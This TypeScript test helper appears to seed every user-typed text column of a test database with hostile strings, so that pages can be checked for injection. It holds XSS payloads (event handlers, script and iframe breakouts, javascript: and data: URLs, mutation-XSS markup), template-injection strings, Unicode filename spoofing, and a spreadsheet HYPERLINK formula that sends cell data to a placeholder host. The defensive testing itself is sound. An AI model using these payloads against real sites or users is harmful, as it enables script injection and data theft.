/** Hostile texts in every field that holds what people type, of every row of a database, past the API: as if no check had been made. */
import { snakeCase } from 'es-toolkit'
import { catalogue } from '#catalogue/declarations.ts'
import type { Fields } from '#model'
import { columnsOfField, hasTable, tableOf } from '#server/store/tables.ts'
import { onDatabase } from '../../support/database.ts'

/** Whatever of them runs in a page calls `tripped`, or asks this host. */
export const ELSEWHERE = 'elsewhere.example'

const RUNS = `tripped()`
export const HOSTILE: readonly string[] = [
  `<img src=x onerror=${RUNS}><svg/onload=${RUNS}>`,
  `"><script>${RUNS}</script><iframe srcdoc="<script>parent.${RUNS}</script>">`,
  `' onmouseover='${RUNS}' autofocus onfocus='${RUNS}' x='`,
  `</style><style>body{background:url(https://${ELSEWHERE}/css)}</style>{{constructor.constructor('${RUNS}')()}}\${${RUNS}}`,
  `</title></textarea></option><base href="https://${ELSEWHERE}/"><meta http-equiv=refresh content="0;url=https://${ELSEWHERE}/">`,
  `\u202Egpj.exe\u202C \u200B\uFEFF ${'W'.repeat(180)}`,
  `=HYPERLINK("https://${ELSEWHERE}/?"&A1,"x") {backgroundImage:url(https://${ELSEWHERE}/)}`,
]
/** What stands where an address or markup belongs. */
const LINKS: readonly string[] = [
  `javascript:${RUNS}`,
  `JaVaScRiPt:${RUNS}//https://example.com`,
  `data:text/html,<script>parent.${RUNS}</script>`,
  `\u0001javascript:${RUNS}`,
  `//${ELSEWHERE}/\\@lakeside.example`,
]
const MARKUP = `<p onclick="${RUNS}">Hostile <img src="https://${ELSEWHERE}/pixel" onerror="${RUNS}"><a href="javascript:${RUNS}">a link</a><svg><script>${RUNS}</script></svg><math><mtext><style><img title="</style><img src=x onerror=${RUNS}>"></style></mtext></math></p>`

/** Types whose text people type, and what stands in it. */
const TYPES: Readonly<Record<string, readonly string[]>> = {
  text: HOSTILE,
  longText: HOSTILE,
  place: HOSTILE,
  email: HOSTILE,
  phone: HOSTILE,
  url: LINKS,
  videoUrl: LINKS,
  richText: [MARKUP],
}

interface Place {
  readonly table: string
  readonly column: string
  readonly texts: readonly string[]
  /** It holds several. */
  readonly isList?: boolean
  /** It holds parts: the keys of theirs that hold text. */
  readonly parts?: readonly string[]
}

const optionsOf = (field: { readonly options: unknown }): { readonly fields?: Fields } => field.options as { readonly fields?: Fields }

/** Of a list of small rows, what people type into one. */
const typedIn = (fields: Fields): readonly string[] =>
  Object.entries(fields).flatMap(([key, { type }]) => (TYPES[type] === HOSTILE ? [snakeCase(key)] : []))

// What a row is found by, or what else goes by.
const KEPT = new Set(['users.email', 'organizations.slug'])

/** Every column of such a field, by the declarations, and names of files. */
export const hostilePlaces = (): readonly Place[] => [
  { table: 'files', column: 'name', texts: HOSTILE },
  ...catalogue.resources.filter(hasTable).flatMap(resource =>
    Object.entries(resource.fields).flatMap(([key, field]) =>
      columnsOfField(resource, key).flatMap(({ name: column, type }) => {
        const texts = TYPES[field.type]
        const table = tableOf(resource)
        if (type === 'text[]' && field.type === 'tags') return [{ table, column, texts: HOSTILE, isList: true }]
        const { fields } = optionsOf(field)
        if (type === 'jsonb' && fields) return [{ table, column, texts: HOSTILE, parts: typedIn(fields) }]
        return texts && type.startsWith('text') && !KEPT.has(`${table}.${column}`) ? [{ table, column, texts }] : []
      }),
    ),
  ),
]

const literal = (text: string): string => `'${text.replaceAll("'", "''")}'`

const filled = ({ table, column, texts, isList, parts }: Place): string => {
  const one = (of: string): string =>
    `(array[${texts.map(literal).join()}])[1 + abs(hashtext(${of})) % ${texts.length}] || ' ' || right(id::text, 6)`
  if (isList) return `update ${table} set ${column} = array[${one('id::text')}, ${one("id::text || '2'")}]`
  if (!parts) return `update ${table} set ${column} = ${one('id::text')} where ${column} <> ''`
  const keys = parts.map(
    part =>
      `case when part ->> ${literal(part)} <> '' then jsonb_build_object(${literal(part)}, ${one(`id::text || ${literal(part)} || n`)}) else '{}' end`,
  )
  return `update ${table} set ${column} = (select jsonb_agg(part || ${keys.join(' || ')} order by n) from jsonb_array_elements(${column}) with ordinality as each (part, n))
    where jsonb_typeof(${column}) = 'array' and ${column} <> '[]'`
}

/** Puts them there; the columns that took none, with the reason. */
export const spoil = async (ownerUrl: string): Promise<readonly string[]> => {
  const refused: string[] = []
  for (const place of hostilePlaces()) {
    if (place.parts?.length === 0) continue
    await onDatabase(ownerUrl, filled(place)).catch((error: unknown) =>
      refused.push(`${place.table}.${place.column}: ${(error as Error).message}`),
    )
  }
  return refused
}
